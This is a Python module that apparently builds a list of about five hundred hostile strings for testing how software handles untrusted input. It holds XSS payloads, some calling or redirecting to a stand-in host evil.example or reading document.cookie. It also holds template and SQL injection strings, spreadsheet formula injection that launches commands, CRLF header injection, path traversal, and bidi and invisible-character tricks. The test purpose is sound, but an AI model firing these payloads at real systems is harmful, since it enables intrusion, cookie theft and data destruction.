"""Five hundred strings that somebody hostile would write into a field."""

from __future__ import annotations

from itertools import product

_SCRIPTS = ("alert(1)", "window.pwned=1", "fetch('//evil.example')", "document.cookie", "location='//evil.example'")
_ELEMENTS = (
    "<script>{}</script>",
    "</script><script>{}</script>",
    '"><script>{}</script>',
    "'><script>{}</script>",
    "<SCRIPT SRC=//evil.example/x.js>{}</SCRIPT>",
    "<img src=x onerror={}>",
    '<img src=x onerror="{}">',
    "<svg/onload={}>",
    "<svg><animate onbegin={} attributeName=x dur=1s>",
    "<body onload={}>",
    "<details open ontoggle={}>",
    "<input autofocus onfocus={}>",
    "<iframe srcdoc='<script>{}</script>'>",
    "<math><mtext><img src onerror={}></mtext></math>",
    "</textarea><script>{}</script>",
    "</title><script>{}</script>",
    "</style><script>{}</script>",
    "<!--><img src=x onerror={}>-->",
    "<a href='javascript:{}'>x</a>",
    "<form action=javascript:{}><button>x",
    "<template><script>{}</script></template>",
    "<x style=animation-name:a onanimationstart={}>",
)
_ATTRIBUTES = (
    '" onmouseover="{}',
    "' onmouseover='{}",
    '" autofocus onfocus="{}" x="',
    "` onclick=`{}",
    '" style="background:url(javascript:{})',
    'x" srcdoc="<script>{}</script>',
    '"/><a href="javascript:{}" x="',
    "&quot; onload=&quot;{}",
)
_ADDRESSES = (
    "javascript:{}",
    "JaVaScRiPt:{}",
    "java\tscript:{}",
    " javascript:{}",
    "\x01javascript:{}",
    "data:text/html,<script>{}</script>",
    "vbscript:{}",
    "https://evil.example/?{}",
    "//evil.example/{}",
    "mailto:a@b.example?bcc=evil@evil.example&body={}",
    "file:///etc/passwd#{}",
)
_TEMPLATES = (
    "{{7*7}}",
    "{{ config }}",
    "{% for x in ().__class__.__base__.__subclasses__() %}{{x}}{% endfor %}",
    "{{ ''.__class__.__mro__ }}",
    "${7*7}",
    "#{7*7}",
    "<%= 7*7 %>",
    "%(secret)s",
    "{0.__class__}",
    "%s%s%s%n",
)
_SQL = (
    "' OR '1'='1",
    "'; DROP TABLE cases; --",
    '" OR ""="',
    "1; SELECT pg_sleep(9) --",
    "' UNION SELECT email, password FROM accounts --",
    "\\'; DELETE FROM matches; --",
    "%' OR 1=1 --",
    "x'||(SELECT 1)||'",
)
_FORMULAS = ("={}", "+{}", "-{}", "@{}", "\t={}", "\r={}", "\n={}")
_CALLS = ("1+1", 'HYPERLINK("//evil.example")', "cmd|' /C calc'!A0", "SUM(1:9)", 'IMPORTXML("//evil.example")')
_DIRECTIONS = ("\u202e", "\u202d", "\u202a", "\u202b", "\u2066", "\u2067", "\u2068", "\u200f", "\u200e", "\u061c")
_INVISIBLE = ("\u200b", "\u200d", "\ufeff", "\u00ad", "\u2028", "\u2029", "\u0085", "\x00", "\x07", "\x1b[31m", "\x7f")
_LINES = (
    "a\r\nSet-Cookie: x=1",
    "a\nBcc: evil@evil.example",
    "a\r\n\r\n<html>",
    "../../../../etc/passwd",
    "..\\..\\windows",
    "%2e%2e%2f",
    "%00",
    "%0d%0aX: 1",
)
_LONG = ("a" * 5_000, "<" * 3_000, "\u0301" * 500, "\U0001f9ec" * 500, "<b>" * 500, "&" * 2_000, "((((" * 500)


def strings() -> list[str]:
    """Return all of them, each once, in an order in which any stretch has some of every kind."""
    kinds = [
        [shape.format(script) for shape, script in product(_ELEMENTS, _SCRIPTS)],
        [shape.format(script) for shape, script in product(_ATTRIBUTES, _SCRIPTS)],
        [shape.format(script) for shape, script in product(_ADDRESSES, _SCRIPTS)],
        [*_TEMPLATES, *(f"Seizure {one}" for one in _TEMPLATES), *(f'"{one}"' for one in _TEMPLATES)],
        [*_SQL, *(f"Ann{one}" for one in _SQL)],
        [shape.format(call) for shape, call in product(_FORMULAS, _CALLS)],
        [
            f"Ann {one}{word}"
            for one, word in product(_DIRECTIONS, ("gpj.exe", "\u05d0\u05d1 (1)", "<b>x</b>", "nigulp"))
        ],
        [f"An{one}n{word}" for one, word in product(_INVISIBLE, ("", "<i>", '"', "'"))],
        [shape.format("alert(1)").replace("<", "\uff1c") for shape in _ELEMENTS],
        [shape.format("alert(1)").replace("<", "&lt;") for shape in _ELEMENTS],
        [shape.format("alert(1)").replace("<", "%3C") for shape in _ELEMENTS],
        [shape.format("alert(1)").replace("<", "\\u003c") for shape in _ELEMENTS],
        [shape.format("alert(1)").upper() for shape in _ELEMENTS],
        [f"{direction}{shape.format('alert(1)')}" for direction in _DIRECTIONS[:2] for shape in _ELEMENTS],
        [*_LINES, *_LONG],
    ]
    every = {one: None for place in range(max(map(len, kinds))) for kind in kinds for one in kind[place : place + 1]}
    return list(every)
